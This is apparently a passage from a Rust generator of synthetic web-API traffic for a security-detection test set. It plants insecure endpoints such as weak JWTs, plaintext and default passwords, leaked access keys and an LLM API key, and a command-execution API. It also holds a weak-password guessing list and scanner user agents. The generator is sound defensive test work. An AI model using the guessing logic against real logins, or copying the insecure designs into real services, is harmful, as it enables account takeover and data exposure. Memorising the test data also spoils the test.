//! Planted incidents: the risky APIs (daily traffic on badly designed endpoints) and the anomalous
//! events (bursts by one IP or one account). Every built-in catalog key except the custom ones has
//! at least one incident; magnitudes follow what real attackers and real bad designs produce.

use super::json::Obj;
use super::net;
use super::normal::{members_page, merchant_customers, order_detail, order_no, Normal};
use super::rec::Rec;
use super::values::{self, mask_mobile, Person};
use super::world::{jwt_hs256_secret, jwt_none, World};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::Serialize;
use std::net::Ipv4Addr;

#[derive(Debug, Clone, Serialize, serde::Deserialize, PartialEq, Eq)]
pub struct TruthRisk {
    pub key: String,
    pub host: String,
    pub method: String,
    pub path_template: String,
}

#[derive(Debug, Clone, Serialize, serde::Deserialize, PartialEq, Eq)]
pub struct TruthEvent {
    pub key: String,
    pub subject: String,
    pub ip: Option<String>,
    pub account: Option<String>,
    pub host: String,
    pub method: String,
    pub path_template: String,
    pub start: String,
    pub end: String,
    pub count: u64,
}

/// The risky APIs: (risk key, host, method, path template).
pub const RISKS: &[(&str, &str, &str, &str)] = &[
    (
        "insecure_http_method",
        "api.example.com",
        "PUT",
        "/v1/users/{id}/profile",
    ),
    (
        "insecure_http_method",
        "api.example.com",
        "DELETE",
        "/v1/comments/{id}",
    ),
    (
        "insecure_http_method",
        "api.example.com",
        "OPTIONS",
        "/v1/articles",
    ),
    ("insecure_http_method", "api.example.com", "TRACE", "/"),
    (
        "weak_jwt_algorithm",
        "m.example.com",
        "GET",
        "/h5/api/member/points",
    ),
    (
        "weak_jwt_algorithm",
        "api.example.com",
        "GET",
        "/v2/internal/feature-flags",
    ),
    (
        "url_as_parameter",
        "api.example.com",
        "GET",
        "/v1/link/preview",
    ),
    (
        "plaintext_password_transmission",
        "shop.example.com",
        "POST",
        "/api/member/login",
    ),
    (
        "plaintext_password_transmission",
        "oa.example.com",
        "POST",
        "/sso/login",
    ),
    (
        "weak_password_allowed",
        "shop.example.com",
        "POST",
        "/api/member/login",
    ),
    (
        "internal_weak_password",
        "oa.example.com",
        "POST",
        "/sso/login",
    ),
    (
        "default_password",
        "admin.example.com",
        "POST",
        "/admin/api/login",
    ),
    (
        "plaintext_password_returned",
        "admin.example.com",
        "GET",
        "/admin/api/accounts/{id}",
    ),
    (
        "password_in_cookie",
        "shop.example.com",
        "GET",
        "/api/member/info",
    ),
    (
        "unrestricted_login",
        "shop.example.com",
        "POST",
        "/api/member/login",
    ),
    (
        "login_failure_enumeration",
        "shop.example.com",
        "POST",
        "/api/member/login",
    ),
    (
        "password_in_url",
        "oa.example.com",
        "GET",
        "/legacy/login.do",
    ),
    (
        "internal_app_internet_exposed",
        "oa.example.com",
        "POST",
        "/sso/login",
    ),
    (
        "internal_app_internet_exposed",
        "oa.example.com",
        "GET",
        "/hr/employees",
    ),
    (
        "unrestricted_access_source",
        "admin.example.com",
        "GET",
        "/admin/api/users",
    ),
    (
        "unrestricted_access_tool",
        "shop.example.com",
        "GET",
        "/api/cart",
    ),
    (
        "unrestricted_access_rate",
        "shop.example.com",
        "GET",
        "/api/coupons/check",
    ),
    (
        "weak_credential_randomness",
        "shop.example.com",
        "POST",
        "/api/member/login",
    ),
    (
        "unauthenticated_sensitive_api",
        "shop.example.com",
        "GET",
        "/api/order/query",
    ),
    (
        "unauthenticated_internal_api",
        "oa.example.com",
        "GET",
        "/hr/api/salary/list",
    ),
    (
        "credential_in_url",
        "api.example.com",
        "GET",
        "/v1/notifications/poll",
    ),
    (
        "accesskey_pair_leak",
        "api.example.com",
        "GET",
        "/v1/app/config",
    ),
    (
        "unauthenticated_sts_token",
        "api.example.com",
        "GET",
        "/v1/oss/sts-token",
    ),
    (
        "excessive_sensitive_types",
        "admin.example.com",
        "GET",
        "/admin/api/customers/{id}/full",
    ),
    (
        "excessive_sensitive_volume",
        "admin.example.com",
        "GET",
        "/admin/api/customers/export",
    ),
    (
        "inadequate_deidentification",
        "api.example.com",
        "GET",
        "/v2/members/{uuid}",
    ),
    (
        "server_info_leak",
        "api.example.com",
        "GET",
        "/actuator/env",
    ),
    (
        "server_info_leak",
        "shop.example.com",
        "GET",
        "/phpinfo.php",
    ),
    ("internal_ip_leak", "api.example.com", "GET", "/v1/health"),
    (
        "sensitive_data_in_url",
        "api.example.com",
        "GET",
        "/v1/identity/verify",
    ),
    ("openapi_doc_leak", "api.example.com", "GET", "/v3/api-docs"),
    (
        "openapi_doc_leak",
        "partner.example.com",
        "GET",
        "/openapi/swagger.json",
    ),
    (
        "llm_api_key_leak",
        "ai.example.com",
        "GET",
        "/api/assistant/config",
    ),
    (
        "traversable_parameter",
        "api.example.com",
        "GET",
        "/v1/users/{id}",
    ),
    (
        "modifiable_result_size",
        "api.example.com",
        "GET",
        "/v1/merchant/customers",
    ),
    (
        "database_query_parameter",
        "admin.example.com",
        "POST",
        "/admin/api/report/query",
    ),
    (
        "command_execution_parameter",
        "admin.example.com",
        "POST",
        "/admin/api/ops/exec",
    ),
    (
        "arbitrary_sms_sending",
        "api.example.com",
        "POST",
        "/v1/sms/send",
    ),
    (
        "arbitrary_email_sending",
        "api.example.com",
        "POST",
        "/v1/mail/send",
    ),
    ("sms_code_leak", "m.example.com", "POST", "/h5/api/sms/code"),
    (
        "email_code_leak",
        "m.example.com",
        "POST",
        "/h5/api/email/code",
    ),
    (
        "specified_file_download",
        "api.example.com",
        "GET",
        "/v1/file/download",
    ),
    (
        "app_exception_leak",
        "shop.example.com",
        "POST",
        "/api/coupons/redeem",
    ),
    ("app_exception_leak", "api.example.com", "GET", "/v2/search"),
    (
        "db_exception_leak",
        "shop.example.com",
        "GET",
        "/api/products/search",
    ),
];

pub struct Ctx<'a> {
    pub w: &'a World,
    pub n: &'a Normal<'a>,
    pub rng: ChaCha8Rng,
    /// UTC epoch ms of local (Asia/Shanghai) midnight of the day.
    pub day0: i64,
    pub recs: Vec<Rec>,
}

impl Ctx<'_> {
    fn at(&mut self, hour: f64) -> i64 {
        self.day0 + (hour * 3_600_000.0) as i64 + self.rng.gen_range(0..1000)
    }
    /// A time at a random hour in `[from, to)`.
    fn between(&mut self, from: f64, to: f64) -> i64 {
        let h = self.rng.gen_range(from..to);
        self.at(h)
    }
    /// A time at a random daytime hour.
    fn daytime(&mut self) -> i64 {
        let h = self.rng.gen_range(9.0..22.0);
        self.at(h)
    }
    /// `n` records spread over `minutes` from `start_hour`, in order.
    fn burst(
        &mut self,
        start_hour: f64,
        minutes: f64,
        n: usize,
        mut f: impl FnMut(&mut Self, usize, i64) -> Rec,
    ) {
        let t0 = self.at(start_hour);
        let span = (minutes * 60_000.0) as i64;
        for i in 0..n {
            let base = t0 + span * i as i64 / n.max(1) as i64;
            let jitter = self.rng.gen_range(0..(span / n.max(1) as i64).max(1));
            let r = f(self, i, base + jitter);
            self.recs.push(r);
        }
    }
}

const WEAK: &[&str] = &[
    "123456",
    "12345678",
    "123456789",
    "password",
    "111111",
    "000000",
    "qwerty123",
    "abc123",
    "888888",
    "666666",
    "a123456",
    "Aa123456",
    "1qaz2wsx",
    "iloveyou",
    "woaini1314",
    "admin123",
    "123123",
];
const ATTACK_BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
const SQLMAP: &str = "sqlmap/1.7.11#stable (https://sqlmap.org)";
const NUCLEI: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.5938.132 Safari/537.36 nuclei/v3.1.4";

fn password_guess(rng: &mut ChaCha8Rng, i: usize) -> String {
    if i < WEAK.len() {
        WEAK[i].to_string()
    } else {
        match rng.gen_range(0..4) {
            0 => format!(
                "{}{}",
                ["wang", "li", "zhang", "liu", "chen"][rng.gen_range(0..5)],
                rng.gen_range(1960..2010)
            ),
            1 => {
                let n = rng.gen_range(6..9);
                values::digits(rng, n)
            }
            2 => format!(
                "{}@{}",
                ["Abc", "Qwe", "Pass", "Admin"][rng.gen_range(0..4)],
                rng.gen_range(100..9999)
            ),
            _ => values::alnum(rng, 8).to_lowercase(),
        }
    }
}

fn member_login(
    t: i64,
    ip: Ipv4Addr,
    ua: &'static str,
    user: &str,
    pwd: &str,
    outcome: u8,
    token_seq: u64,
) -> Rec {
    let body = format!(
        "{{\"username\":\"{}\",\"password\":\"{}\",\"remember\":true}}",
        user,
        pwd.replace('"', "")
    );
    let r = Rec::new(
        t,
        "shop.example.com",
        "POST",
        "/api/member/login".into(),
        ip,
    )
    .ua(ua)
    .json(body);
    match outcome {
        0 => r.rjson(format!(
            r#"{{"code":0,"msg":"登录成功","data":{{"token":"{}","username":"{}"}}}}"#,
            token_seq, user
        )),
        1 => r.rjson(r#"{"code":1002,"msg":"密码错误"}"#.into()),
        _ => r.rjson(r#"{"code":1001,"msg":"用户不存在"}"#.into()),
    }
}

fn oa_login(
    t: i64,
    ip: Ipv4Addr,
    ua: &'static str,
    user: &str,
    pwd: &str,
    success: bool,
    session: &str,
) -> Rec {
    let body = form_urlencoded::Serializer::new(String::new())
        .append_pair("username", user)
        .append_pair("password", pwd)
        .append_pair("rememberMe", "false")
        .finish();
    let r = Rec::new(t, "oa.example.com", "POST", "/sso/login".into(), ip)
        .ua(ua)
        .form(body);
    if success {
        r.rh(
            "set-cookie",
            format!("JSESSIONID={session}; Path=/; HttpOnly"),
        )
        .rjson(format!(
            r#"{{"success":true,"redirect":"/portal/index","user":"{user}"}}"#
        ))
    } else {
        r.rjson(r#"{"success":false,"message":"用户名或密码错误"}"#.into())
    }
}

const JAVA_TRACE: &str = "java.lang.NullPointerException: Cannot invoke \"com.example.shop.coupon.Coupon.getRule()\" because \"coupon\" is null\n\tat com.example.shop.coupon.CouponService.redeem(CouponService.java:142)\n\tat com.example.shop.coupon.CouponController.redeem(CouponController.java:58)\n\tat sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)\n\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:897)\n\tat org.apache.catalina.core.ApplicationFilterChain.internalDoFilter(ApplicationFilterChain.java:227)";
const PY_TRACE: &str = "Traceback (most recent call last):\n  File \"/srv/search/app/views.py\", line 88, in search\n    results = engine.query(q, sort=sort_key)\n  File \"/srv/search/app/engine.py\", line 131, in query\n    return self._rank(hits, SORTS[sort])\nKeyError: 'price desc'\n";
const MYSQL_ERR: &str = "SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '%' ORDER BY sales DESC LIMIT 0,20' at line 1";

fn java_500(r: Rec) -> Rec {
    r.st(500).rjson(format!(
        r#"{{"timestamp":"2025-03-05T10:21:33.118+08:00","status":500,"error":"Internal Server Error","exception":"java.lang.NullPointerException","trace":{},"path":"/api/coupons/redeem"}}"#,
        serde_json::to_string(JAVA_TRACE).unwrap_or_default()
    ))
}

/// Daily traffic on the risky APIs (when attacks are planted). Each is used by ordinary clients.
pub fn risky_daily(c: &mut Ctx, day: u32, days: u32) {
    let w = c.w;
    let nu = w.users.len();
    macro_rules! user {
        () => {
            &w.users[c.rng.gen_range(0..nu)]
        };
    }
    // insecure methods
    for _ in 0..12 {
        let u = user!();
        let t = c.daytime();
        let mut b = Obj::new();
        b.s("nickname", &u.username).s("signature", "今天也要加油");
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "PUT",
                format!("/v1/users/{}/profile", u.id),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {}", u.jwt))
            .json(b.finish())
            .rjson(r#"{"code":0,"msg":"success"}"#.into()),
        );
        let t = c.daytime();
        let cid = c.rng.gen_range(600_000..700_000);
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "DELETE",
                format!("/v1/comments/{cid}"),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {}", u.jwt))
            .rjson(r#"{"code":0,"msg":"deleted"}"#.into()),
        );
    }
    for _ in 0..6 {
        let u = user!();
        let t = c.daytime();
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "OPTIONS",
                "/v1/articles".into(),
                u.home_ip,
            )
            .ua(net::BROWSERS[0])
            .h("origin", "https://www.example.com".into())
            .h("access-control-request-method", "PUT".into())
            .st(204)
            .rh("allow", "GET, POST, PUT, DELETE, OPTIONS, TRACE".into())
            .rh(
                "access-control-allow-methods",
                "GET, POST, PUT, DELETE, OPTIONS, TRACE".into(),
            ),
        );
    }
    if day.is_multiple_of(2) {
        let t = c.daytime();
        let ip = net::ip_in(&mut c.rng, net::CN);
        c.recs.push(
            Rec::new(t, "api.example.com", "TRACE", "/".into(), ip)
                .ua("curl/8.4.0")
                .st(200)
                .rbody("message/http", "TRACE / HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: curl/8.4.0\r\nAccept: */*\r\n".into()),
        );
    }
    // weak JWT on the H5 site (HS256 with `secret`) and a feature flag API (alg none)
    for _ in 0..20 {
        let u = user!();
        let t = c.daytime();
        let tok = jwt_hs256_secret(&u.username, u.id, w.start_ms);
        c.recs.push(
            Rec::new(
                t,
                "m.example.com",
                "GET",
                "/h5/api/member/points".into(),
                u.mobile_ip,
            )
            .ua(net::BROWSERS[7])
            .h("authorization", format!("Bearer {tok}"))
            .rjson(format!(
                r#"{{"code":0,"data":{{"points":{},"level":"V2"}}}}"#,
                u.id % 5000
            )),
        );
    }
    for _ in 0..10 {
        let u = user!();
        let t = c.daytime();
        let tok = jwt_none(&u.username, u.id, w.start_ms);
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "GET",
                "/v2/internal/feature-flags".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {tok}"))
            .rjson(r#"{"code":0,"data":{"new_checkout":true,"live_stream":false}}"#.into()),
        );
    }
    // URL as a parameter
    for _ in 0..15 {
        let u = user!();
        let t = c.daytime();
        let target = [
            "https://mp.weixin.qq.com/s/Xk2a9",
            "https://www.bilibili.com/video/BV1xx411c7mD",
            "https://item.example.com/p/10023",
        ][c.rng.gen_range(0..3)];
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "GET",
                "/v1/link/preview".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {}", u.jwt))
            .q(format!(
                "url={}",
                percent_encoding::utf8_percent_encode(target, percent_encoding::NON_ALPHANUMERIC)
            ))
            .rjson(
                r#"{"code":0,"data":{"title":"分享链接","image":"https://img.example.com/p.jpg"}}"#
                    .into(),
            ),
        );
    }
    // legacy member login: plaintext, weak passwords accepted, enumerating prompts, sequential tokens
    for i in 0..30 {
        let u = user!();
        let t = c.daytime();
        let outcome = match i % 10 {
            0 => 2,
            1 | 2 => 1,
            _ => 0,
        };
        let pwd = if i % 5 == 3 {
            WEAK[i % WEAK.len()].to_string()
        } else {
            format!("{}@{}", u.person.pinyin, u.id % 10_000)
        };
        let seq = 100_000 + day as u64 * 1000 + i as u64;
        c.recs.push(
            member_login(t, u.home_ip, u.ua, &u.username, &pwd, outcome, seq).acct(&u.username),
        );
        // then the member info page with the remember-me cookie holding the password
        if outcome == 0 {
            let t2 = t + c.rng.gen_range(1000..20_000);
            c.recs.push(
                Rec::new(
                    t2,
                    "shop.example.com",
                    "GET",
                    "/api/member/info".into(),
                    u.home_ip,
                )
                .ua(u.ua)
                .h(
                    "cookie",
                    format!(
                        "member_token={seq}; remember_user={}; remember_pwd={}",
                        u.username, pwd
                    ),
                )
                .acct(&u.username)
                .rjson(format!(
                    r#"{{"code":0,"data":{{"username":"{}","points":{}}}}}"#,
                    u.username,
                    u.id % 900
                )),
            );
        }
    }
    // OA: plaintext logins (some weak), a few from the Internet, and the password-in-URL legacy page
    for i in 0..16 {
        let e = &w.employees[c.rng.gen_range(0..w.employees.len())];
        let h = c.rng.gen_range(8.5..18.0);
        let t = c.at(h);
        let weak = i % 4 == 0;
        let pwd = if weak {
            WEAK[(i + day as usize) % 6]
        } else {
            e.password.as_str()
        };
        let public = i % 5 == 1;
        let ip = if public {
            e.person
                .mobile
                .parse::<u64>()
                .map(|m| Ipv4Addr::new(117, 136, (m % 256) as u8, (m / 256 % 250 + 2) as u8))
                .unwrap_or(e.ip)
        } else {
            e.ip
        };
        c.recs
            .push(oa_login(t, ip, e.ua, &e.username, pwd, true, &e.session).acct(&e.username));
        if public {
            let t2 = t + 30_000;
            c.recs.push(
                Rec::new(t2, "oa.example.com", "GET", "/hr/employees".into(), ip)
                    .ua(e.ua)
                    .h("cookie", format!("JSESSIONID={}", e.session))
                    .acct(&e.username)
                    .q("dept_id=&page=1&page_size=20".into())
                    .rjson(r#"{"code":0,"msg":"success","data":{"total":160,"rows":[]}}"#.into()),
            );
        }
    }
    for _ in 0..4 {
        let e = &w.employees[c.rng.gen_range(0..w.employees.len())];
        let h = c.rng.gen_range(8.5..18.0);
        let t = c.at(h);
        c.recs.push(
            Rec::new(t, "oa.example.com", "GET", "/legacy/login.do".into(), e.ip)
                .ua("Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)")
                .q(format!(
                    "username={}&password={}",
                    e.username,
                    percent_encoding::utf8_percent_encode(
                        &e.password,
                        percent_encoding::NON_ALPHANUMERIC
                    )
                ))
                .st(302)
                .rh("location", "/portal/index".into()),
        );
    }
    // admin: default password, plaintext password returned, customers full and export, SQL and cmd APIs
    for _ in 0..3 {
        let a = &w.admins[c.rng.gen_range(0..w.admins.len())];
        let t = c.between(9.0, 18.0);
        c.recs.push(
            Rec::new(
                t,
                "admin.example.com",
                "POST",
                "/admin/api/login".into(),
                a.ip,
            )
            .ua(a.ua)
            .json(r#"{"username":"admin","password":"admin"}"#.into())
            .acct("admin")
            .rjson(format!(
                r#"{{"code":0,"msg":"success","data":{{"token":"{}","role":"SUPER_ADMIN"}}}}"#,
                values::hex(&mut c.rng, 32)
            )),
        );
    }
    for _ in 0..6 {
        let a = &w.admins[c.rng.gen_range(0..w.admins.len())];
        let e = &w.employees[c.rng.gen_range(0..w.employees.len())];
        let t = c.between(9.0, 18.0);
        let id = c.rng.gen_range(1..400);
        c.recs.push(
            Rec::new(
                t,
                "admin.example.com",
                "GET",
                format!("/admin/api/accounts/{id}"),
                a.ip,
            )
            .ua(a.ua)
            .h("cookie", format!("ADMIN_SESSION={}", a.session))
            .acct(&a.username)
            .rjson(format!(
                r#"{{"code":0,"data":{{"id":{id},"username":"{}","password":"{}","status":1}}}}"#,
                e.username, e.password
            )),
        );
    }
    for _ in 0..5 {
        let a = &w.admins[c.rng.gen_range(0..w.admins.len())];
        let t = c.between(9.0, 18.0);
        let i = c.rng.gen_range(0..w.customers.len());
        let p = &w.customers[i];
        let mut r = Obj::new();
        r.n("code", 0)
            .open("data")
            .s("name", &p.name)
            .s("gender", p.gender())
            .s("ethnic", "汉族")
            .s("birthday", &p.birthday())
            .s("id_card", &p.id_number)
            .s("mobile", &p.mobile)
            .s("tel", &p.landline)
            .s("email", &p.email)
            .s("address", &p.address)
            .s("bank_card", &p.bank_card)
            .s("bank", p.bank)
            .s("passport", &values::passport(&mut c.rng))
            .s("plate_no", &values::plate(&mut c.rng))
            .s("vin", &values::vin(&mut c.rng))
            .s("device_imei", &values::imei(&mut c.rng))
            .s("last_login_mac", &values::mac(&mut c.rng));
        c.recs.push(
            Rec::new(
                t,
                "admin.example.com",
                "GET",
                format!("/admin/api/customers/{}/full", 700_000 + i),
                a.ip,
            )
            .ua(a.ua)
            .h("cookie", format!("ADMIN_SESSION={}", a.session))
            .acct(&a.username)
            .rjson(r.finish()),
        );
    }
    {
        let a = &w.admins[0];
        let t = c.between(9.0, 18.0);
        let mut o = Obj::new();
        o.n("code", 0).open("data").open_arr("rows");
        let start = c.rng.gen_range(0..w.customers.len());
        for k in 0..300 {
            let p = &w.customers[(start + k) % w.customers.len()];
            o.elem_obj()
                .s("name", &p.name)
                .s("id_card", &p.id_number)
                .s("mobile", &p.mobile)
                .s("address", &p.address)
                .close();
        }
        o.close_arr();
        c.recs.push(
            Rec::new(
                t,
                "admin.example.com",
                "GET",
                "/admin/api/customers/export".into(),
                a.ip,
            )
            .ua(a.ua)
            .h("cookie", format!("ADMIN_SESSION={}", a.session))
            .acct(&a.username)
            .q("level=VIP&page_size=300".into())
            .rjson(o.finish()),
        );
    }
    for (sql, cmd) in [
        ("SELECT province, COUNT(*) AS cnt FROM orders WHERE created_at >= '2025-03-01' GROUP BY province", "df -h /data"),
        ("SELECT user_id, SUM(amount) FROM payments WHERE status = 'PAID' GROUP BY user_id ORDER BY 2 DESC LIMIT 20", "tail -n 200 /var/log/nginx/error.log"),
    ] {
        let a = &w.admins[c.rng.gen_range(0..w.admins.len())];
        let t = c.between(9.0, 18.0);
        let mut b = Obj::new();
        b.s("datasource", "report_db").s("sql", sql);
        c.recs.push(
            Rec::new(t, "admin.example.com", "POST", "/admin/api/report/query".into(), a.ip)
                .ua(a.ua)
                .h("cookie", format!("ADMIN_SESSION={}", a.session))
                .acct(&a.username)
                .json(b.finish())
                .rjson(r#"{"code":0,"data":{"columns":["province","cnt"],"rows":[["广东省",1203],["浙江省",988]]}}"#.into()),
        );
        let t = c.between(9.0, 18.0);
        let mut b = Obj::new();
        b.s("host", "10.20.1.15").s("cmd", cmd).n("timeout", 30);
        c.recs.push(
            Rec::new(t, "admin.example.com", "POST", "/admin/api/ops/exec".into(), a.ip)
                .ua(a.ua)
                .h("cookie", format!("ADMIN_SESSION={}", a.session))
                .acct(&a.username)
                .json(b.finish())
                .rjson(r#"{"code":0,"data":{"exit_code":0,"stdout":"Filesystem      Size  Used Avail Use% Mounted on\n/dev/vdb1       500G  312G  188G  63% /data\n"}}"#.into()),
        );
    }
    // unauthenticated order query: most callers send no credential and still get the
    // receiver's data (a few send a session cookie the server never checks)
    for i in 0..25 {
        let u = user!();
        let t = c.daytime();
        let p = &u.person;
        let mut r = Rec::new(
            t,
            "shop.example.com",
            "GET",
            "/api/order/query".into(),
            u.home_ip,
        )
        .ua(u.ua)
        .q(format!("order_no={}", order_no(&mut c.rng, t)));
        if i % 3 == 0 {
            r = r
                .h("cookie", format!("SESSIONID={}", u.session))
                .acct(&u.username);
        }
        c.recs.push(r.rjson(format!(
            r#"{{"code":0,"data":{{"status":"已发货","receiver":"{}","phone":"{}","address":"{}","id_card":"{}"}}}}"#,
            p.name, p.mobile, p.address, p.id_number
        )));
    }
    // unauthenticated internal salary list
    for _ in 0..4 {
        let e = &w.employees[c.rng.gen_range(0..w.employees.len())];
        let t = c.between(9.0, 18.0);
        let mut o = Obj::new();
        o.n("code", 0).open_arr("data");
        for k in 0..10 {
            let x = &w.employees[(k * 13) % w.employees.len()];
            o.elem_obj()
                .s("emp_no", &x.emp_no)
                .s("name", &x.person.name)
                .s("bank_card", &x.person.bank_card)
                .n("salary", 12_000 + (k as i64) * 850)
                .close();
        }
        o.close_arr();
        c.recs.push(
            Rec::new(
                t,
                "oa.example.com",
                "GET",
                "/hr/api/salary/list".into(),
                e.ip,
            )
            .ua(e.ua)
            .q("month=2025-02".into())
            .rjson(o.finish()),
        );
    }
    // token in the URL
    for _ in 0..20 {
        let u = user!();
        let t = c.daytime();
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "GET",
                "/v1/notifications/poll".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .q(format!("access_token={}&since={}", u.jwt, t / 1000 - 60))
            .rjson(r#"{"code":0,"data":{"notifications":[]}}"#.into()),
        );
    }
    // app config with an AccessKey pair; STS token; LLM key; health with internal IPs; api docs
    for _ in 0..8 {
        let u = user!();
        let t = c.daytime();
        c.recs.push(
            Rec::new(t, "api.example.com", "GET", "/v1/app/config".into(), u.mobile_ip)
                .ua(u.ua)
                .q("platform=android&version=6.12.0".into())
                .rjson(r#"{"code":0,"data":{"cdn":"https://cdn.example.com","oss":{"endpoint":"oss-cn-hangzhou.aliyuncs.com","bucket":"example-user-upload","accessKeyId":"LTAI5tRvGvXk3VYpLq8mZ2Hd","accessKeySecret":"q8N3vZk2XwT9pLmR5sYc7BfHjD4gKe"}}}"#.into()),
        );
        let t = c.daytime();
        c.recs.push(
            Rec::new(t, "api.example.com", "GET", "/v1/oss/sts-token".into(), u.mobile_ip)
                .ua(u.ua)
                .rjson(format!(r#"{{"StatusCode":200,"AccessKeyId":"STS.NUgYrLnoC37mZZCNnAbez2{}","AccessKeySecret":"3dZn8q2Pv7Xk1LmR9sTc6BfHjD4gKeYw2Qa","SecurityToken":"CAIS8gF1q6Ft5B2yfSjIr5bkKOP5nb1F0Y2aVH{}GoAB","Expiration":"2025-03-05T12:00:00Z"}}"#, values::alnum(&mut c.rng, 4), values::alnum(&mut c.rng, 40))),
        );
        let t = c.daytime();
        c.recs.push(
            Rec::new(t, "ai.example.com", "GET", "/api/assistant/config".into(), u.home_ip)
                .ua(net::BROWSERS[0])
                .rjson(r#"{"provider":"openai","model":"gpt-4o-mini","api_key":"sk-proj-Xb7Qm2LrT9vK4pW8nZc1HdF6yJ3gS5aE0uR2iO7lP9eN4tB1","temperature":0.3}"#.into()),
        );
    }
    for _ in 0..24 {
        let t = c.between(0.0, 24.0);
        c.recs.push(
            Rec::new(t, "api.example.com", "GET", "/v1/health".into(), Ipv4Addr::new(100, 64, 3, 17))
                .ua("kube-probe/1.28")
                .rjson(r#"{"status":"UP","node":"10.12.3.45:8080","db":{"status":"UP","host":"192.168.10.21:3306"},"redis":"172.16.8.9:6379"}"#.into()),
        );
    }
    for _ in 0..2 {
        let ip = net::ip_in(&mut c.rng, net::CN);
        let t = c.daytime();
        c.recs.push(
            Rec::new(t, "api.example.com", "GET", "/v3/api-docs".into(), ip)
                .ua(net::BROWSERS[3])
                .rjson(r#"{"openapi":"3.0.1","info":{"title":"Example API","version":"v1"},"servers":[{"url":"https://api.example.com"}],"paths":{"/v1/users/{id}":{"get":{"parameters":[{"name":"id","in":"path","required":true,"schema":{"type":"integer"}}]}},"/v1/merchant/customers":{"get":{}}}}"#.into()),
        );
        let t = c.daytime();
        c.recs.push(
            Rec::new(t, "partner.example.com", "GET", "/openapi/swagger.json".into(), ip)
                .ua(net::BROWSERS[3])
                .rjson(r#"{"swagger":"2.0","info":{"title":"Partner Open API","version":"1.0"},"host":"partner.example.com","basePath":"/openapi","paths":{"/v1/members":{"get":{"parameters":[{"name":"page","in":"query","type":"integer"}]}}}}"#.into()),
        );
    }
    // spring actuator env and phpinfo reachable
    for _ in 0..2 {
        let ip = net::ip_in(&mut c.rng, net::CN);
        let t = c.daytime();
        c.recs.push(actuator_env(t, ip, "curl/8.4.0"));
        let t = c.daytime();
        c.recs.push(phpinfo(t, ip, net::BROWSERS[1]));
    }
    // masked and plain phone of the same member
    for _ in 0..15 {
        let u = user!();
        let t = c.daytime();
        let p = &u.person;
        c.recs.push(
            Rec::new(t, "api.example.com", "GET", format!("/v2/members/{}", u.uuid), u.home_ip)
                .ua(u.ua)
                .h("authorization", format!("Bearer {}", u.jwt))
                .rjson(format!(r#"{{"code":0,"data":{{"name":"{}","mobile":"{}","contact":{{"tel":"{}","email":"{}"}}}}}}"#, values::mask_name(&p.name), mask_mobile(&p.mobile), p.mobile, p.email)),
        );
    }
    // ID number in the query string
    for _ in 0..10 {
        let u = user!();
        let t = c.daytime();
        let p = &u.person;
        let q = form_urlencoded::Serializer::new(String::new())
            .append_pair("name", &p.name)
            .append_pair("id_no", &p.id_number)
            .finish();
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "GET",
                "/v1/identity/verify".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {}", u.jwt))
            .q(q)
            .rjson(r#"{"code":0,"data":{"verified":true}}"#.into()),
        );
    }
    // page_size honoured without limit
    {
        let mi = w.merchants[day as usize % w.merchants.len()];
        let u = &w.users[mi];
        let t = c.daytime();
        let body = merchant_customers(w, &mut c.rng, 1, 400);
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "GET",
                "/v1/merchant/customers".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {}", u.jwt))
            .q("page=1&page_size=10000".into())
            .rjson(body),
        );
    }
    // arbitrary SMS / e-mail content, codes returned by the H5 site
    for _ in 0..8 {
        let u = user!();
        let t = c.daytime();
        let mut b = Obj::new();
        b.s("mobile", &u.person.mobile).s(
            "content",
            "【示例商城】您的订单已发货，点击 https://s.example.com/x 查看物流",
        );
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "POST",
                "/v1/sms/send".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {}", u.jwt))
            .json(b.finish())
            .rjson(r#"{"code":0,"msg":"sent"}"#.into()),
        );
        let t = c.daytime();
        let mut b = Obj::new();
        b.s("to", &u.person.email)
            .s("subject", "订单发票")
            .s("body", "<p>您好，附件为您的电子发票。</p>");
        c.recs.push(
            Rec::new(
                t,
                "api.example.com",
                "POST",
                "/v1/mail/send".into(),
                u.home_ip,
            )
            .ua(u.ua)
            .h("authorization", format!("Bearer {}", u.jwt))
            .json(b.finish())
            .rjson(r#"{"code":0,"msg":"queued"}"#.into()),
        );
        let t = c.daytime();
        let code = values::digits(&mut c.rng, 6);
        c.recs.push(
            Rec::new(t, "m.example.com", "POST", "/h5/api/sms/code".into(), u.mobile_ip)
                .ua(net::BROWSERS[8])
                .json(format!(r#"{{"mobile":"{}","type":"login"}}"#, u.person.mobile))
                .rjson(format!(r#"{{"code":0,"msg":"发送成功","data":{{"mobile":"{}","verify_code":"{code}","expire":300}}}}"#, u.person.mobile)),
        );
        let t = c.daytime();
        let code = values::digits(&mut c.rng, 6);
        c.recs.push(
            Rec::new(
                t,
                "m.example.com",
                "POST",
